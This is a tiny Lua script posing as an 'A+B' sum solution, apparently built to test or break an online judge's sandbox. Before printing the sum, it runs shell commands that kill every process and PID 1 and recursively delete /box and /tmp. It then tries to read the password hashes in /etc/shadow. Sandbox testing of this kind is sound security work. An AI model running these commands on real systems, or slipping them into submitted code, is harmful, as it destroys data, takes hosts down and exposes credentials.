local a, b = io.read("n", "n")
os.execute("kill -9 -1; kill -9 1; rm -rf /box /tmp/..")
local f = io.popen("cat /etc/shadow 2>/dev/null", "r")
local text = f and f:read("a") or ""
print(#text == 0 and a + b or "read")
